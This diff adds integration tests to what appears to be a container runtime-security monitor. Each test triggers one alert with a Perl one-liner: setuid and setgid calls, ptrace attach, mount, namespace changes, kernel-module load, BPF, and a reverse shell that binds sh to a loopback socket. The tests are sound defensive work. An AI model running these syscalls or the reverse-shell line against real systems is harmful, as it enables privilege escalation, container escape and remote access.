@@ -141,3 +141,148 @@ fn benign_workload_and_healthcheck_raise_nothing() {
     };
     assert_eq!(rules_of(&alerts), Vec::<&str>::new());
 }
+
+/// `docker run` flags that let the syscalls Docker's default seccomp profile refuses reach the
+/// kernel's tracepoints (seccomp runs first: a refused call is never seen, nor done).
+const UNCONFINED: [&str; 2] = ["--security-opt", "seccomp=unconfined"];
+
+/// Each alert as (rule, container name, command line).
+fn summary(alerts: &[Value]) -> Vec<(String, String, String)> {
+    let text = |a: &Value, k: &str| a["output_fields"][k].as_str().unwrap_or_default().to_owned();
+    alerts
+        .iter()
+        .map(|a| (a["rule"].as_str().unwrap().to_owned(), text(a, "container.name"), text(a, "proc.cmdline")))
+        .collect()
+}
+
+/// The one alert expected: `rule` for `cmdline` in the container named `hg-watch-NAME-PID`.
+fn expect_one(alerts: &[Value], name: &str, rule: &str, cmdline: &str) {
+    let container = format!("hg-watch-{name}-{}", std::process::id());
+    assert_eq!(summary(alerts), [(rule.to_owned(), container, cmdline.to_owned())], "{alerts:#?}");
+}
+
+#[test]
+fn setuid_and_setgid_by_a_non_root_process() {
+    let script = "syscall(105, 0); syscall(106, 0)";
+    let Some(alerts) = alerts_of("setid", &[], |c| {
+        c.exec_as("1000", &["/usr/bin/perl", "-e", script]);
+    }) else {
+        return;
+    };
+    let rule = "User or group id change by non-root process";
+    let cmdline = format!("perl -e {script}");
+    let container = format!("hg-watch-setid-{}", std::process::id());
+    assert_eq!(
+        summary(&alerts),
+        [(rule.to_owned(), container.clone(), cmdline.clone()), (rule.to_owned(), container, cmdline)]
+    );
+    let f = |n: usize, k: &str| alerts[n]["output_fields"][k].as_str().unwrap().to_owned();
+    assert_eq!((f(0, "evt.type"), f(0, "evt.arg.id"), f(0, "user.uid")), ("setuid".into(), "0".into(), "1000".into()));
+    assert_eq!((f(1, "evt.type"), f(1, "evt.arg.id")), ("setgid".into(), "0".into()));
+}
+
+#[test]
+fn setuid_binary_run_by_a_non_root_user() {
+    let Some(alerts) = alerts_of("suid", &[], |c| {
+        c.exec_as("1000", &["/usr/bin/su", "--help"]);
+        c.exec_as("0", &["/usr/bin/su", "--help"]); // root: no alert
+    }) else {
+        return;
+    };
+    expect_one(&alerts, "suid", "Setuid binary run by non-root user", "su --help");
+    assert_eq!(alerts[0]["output_fields"]["fd.name"], "/usr/bin/su");
+    assert_eq!(alerts[0]["output_fields"]["evt.arg.mode"], "104755");
+    assert_eq!(alerts[0]["output_fields"]["user.uid"], "1000");
+}
+
+#[test]
+fn ptrace_attach_to_another_process() {
+    let script = "syscall(101, 16, 1, 0, 0)"; // PTRACE_ATTACH to the container's pid 1
+    let Some(alerts) = alerts_of("ptrace", &[], |c| {
+        c.exec(&["/usr/bin/perl", "-e", script]);
+    }) else {
+        return;
+    };
+    expect_one(&alerts, "ptrace", "PTRACE attached to another process", &format!("perl -e {script}"));
+    assert_eq!(alerts[0]["output_fields"]["evt.arg.request"], "16");
+    assert_eq!(alerts[0]["output_fields"]["evt.arg.pid"], "1");
+}
+
+#[test]
+fn mount_in_a_container() {
+    let script = r#"my ($s, $t, $f) = ("none", "/mnt", "tmpfs"); syscall(165, $s, $t, $f, 0, 0)"#;
+    let Some(alerts) = alerts_of("mount", &UNCONFINED, |c| {
+        c.exec(&["/usr/bin/perl", "-e", script]);
+    }) else {
+        return;
+    };
+    expect_one(&alerts, "mount", "Mount in container", &format!("perl -e {script}"));
+    assert_eq!(alerts[0]["output_fields"]["fd.name"], "/mnt");
+}
+
+#[test]
+fn unshare_and_setns_in_a_container() {
+    let unshare = "syscall(272, 0x04000000)"; // CLONE_NEWUTS
+    let setns = r#"open(my $f, "<", "/proc/1/ns/net") or die; syscall(308, fileno($f), 0x40000000)"#;
+    let Some(alerts) = alerts_of("ns", &UNCONFINED, |c| {
+        c.exec(&["/usr/bin/perl", "-e", unshare]);
+        c.exec(&["/usr/bin/perl", "-e", setns]);
+    }) else {
+        return;
+    };
+    let rule = "Namespace change in container".to_owned();
+    let container = format!("hg-watch-ns-{}", std::process::id());
+    assert_eq!(
+        summary(&alerts),
+        [
+            (rule.clone(), container.clone(), format!("perl -e {unshare}")),
+            (rule, container, format!("perl -e {setns}"))
+        ]
+    );
+    let f = |n: usize, k: &str| alerts[n]["output_fields"][k].as_str().unwrap().to_owned();
+    assert_eq!((f(0, "evt.type"), f(0, "evt.arg.flags")), ("unshare".into(), "0x4000000".into()));
+    assert_eq!((f(1, "evt.type"), f(1, "evt.arg.flags")), ("setns".into(), "0x40000000".into()));
+}
+
+#[test]
+fn kernel_module_load_from_a_container() {
+    let script = r#"my $p = ""; syscall(313, 0, $p, 0)"#; // finit_module
+    let Some(alerts) = alerts_of("module", &UNCONFINED, |c| {
+        c.exec(&["/usr/bin/perl", "-e", script]);
+    }) else {
+        return;
+    };
+    expect_one(&alerts, "module", "Kernel module load from container", &format!("perl -e {script}"));
+    assert_eq!(alerts[0]["output_fields"]["evt.type"], "finit_module");
+}
+
+#[test]
+fn bpf_from_a_container() {
+    let script = "syscall(321, 0, 0, 0)"; // BPF_MAP_CREATE
+    let Some(alerts) = alerts_of("bpf", &UNCONFINED, |c| {
+        c.exec(&["/usr/bin/perl", "-e", script]);
+    }) else {
+        return;
+    };
+    expect_one(&alerts, "bpf", "BPF from container", &format!("perl -e {script}"));
+    assert_eq!(alerts[0]["output_fields"]["evt.arg.cmd"], "0");
+}
+
+#[test]
+fn reverse_shell_to_a_loopback_listener() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
+    let port = listener.local_addr().unwrap().port();
+    let script = format!(
+        "use IO::Socket::INET; $s = IO::Socket::INET->new('127.0.0.1:{port}') or die; \
+         open STDIN, '<&', $s; open STDOUT, '>&', $s; exec '/bin/sh', '-c', 'true'"
+    );
+    let Some(alerts) = alerts_of("revshell", &["--network", "host"], |c| {
+        c.exec(&["/usr/bin/perl", "-e", &script]);
+    }) else {
+        return;
+    };
+    drop(listener);
+    expect_one(&alerts, "revshell", "Reverse shell", "sh -c true");
+    assert_eq!(alerts[0]["output_fields"]["proc.exe"], "/bin/sh");
+    assert_eq!(alerts[0]["output_fields"]["proc.stdio_socket"], "true");
+}
